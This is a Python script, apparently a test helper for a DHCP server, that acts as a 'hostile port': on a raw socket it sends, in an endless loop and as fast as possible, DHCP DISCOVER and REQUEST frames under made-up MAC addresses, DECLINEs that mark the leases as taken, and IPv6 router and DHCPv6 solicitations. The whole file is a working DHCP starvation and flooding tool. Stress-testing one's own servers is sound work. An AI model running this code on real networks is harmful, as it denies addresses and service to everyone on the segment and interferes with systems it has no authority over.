#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""dhcp_flood.py IFACE SERVER FIRST COUNT SENT [OWN]

A hostile port: until it is ended it takes leases of the COUNT addresses from FIRST on under MAC addresses that it makes up,
gives them back as used by others (DECLINE), and solicits routers and DHCPv6 servers, as fast as it can. How many frames
that were so far is in the file SENT. OWN: under its own address, all of it.
"""
import os
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(__file__))
from dhcp_load import DISCOVER, REQUEST, frame  # noqa: E402

DECLINE = 4
ALL_ROUTERS = bytes.fromhex("ff02" + "00" * 13 + "02")
ALL_SERVERS = bytes.fromhex("ff02" + "00" * 11 + "010002")


def inet6(mac, to, protocol, payload):
    source = bytes.fromhex("fe80000000000000") + bytes([mac[0] ^ 2, mac[1], mac[2], 0xFF, 0xFE, *mac[3:]])
    head = struct.pack("!IHBB", 0x60000000, len(payload), protocol, 255) + source + to
    return b"\x33\x33" + to[12:] + mac + b"\x86\xdd" + head + payload


def solicit6(mac):
    duid = b"\0\3\0\1" + mac
    body = b"\1" + os.urandom(3) + struct.pack("!HH", 1, len(duid)) + duid
    body += struct.pack("!HHIII", 3, 12, 1, 0, 0) + struct.pack("!HH", 14, 0)
    return inet6(mac, ALL_SERVERS, 17, struct.pack("!HHHH", 546, 547, 8 + len(body), 0) + body)


def main():
    interface, server, first, count, told = sys.argv[1:6]
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    link.bind((interface, 0))
    server = socket.inet_aton(server)
    (start,) = struct.unpack("!I", socket.inet_aton(first))
    own = link.getsockname()[4] if len(sys.argv) > 6 else None
    sent = rounds = 0
    while True:
        rounds += 1
        if rounds % 1000 == 0:
            with open(told + ".new", "w", encoding="ascii") as file:
                file.write(f"{sent}\n")
            os.rename(told + ".new", told)
        mac = own or b"\x02" + os.urandom(5)
        address = struct.pack("!I", start + sent % int(count))
        chosen = b"\x32\x04" + address + b"\x36\x04" + server
        for one in (frame(mac, sent, DISCOVER, b""), frame(mac, sent, REQUEST, chosen),
                    frame(mac, sent, DECLINE, chosen) if sent % 3 == 0 else b"",
                    inet6(mac, ALL_ROUTERS, 58, b"\x85" + bytes(7)), solicit6(mac)):
            try:
                sent += 1 if one and link.send(one) else 0
            except OSError:
                time.sleep(0.001)


main()
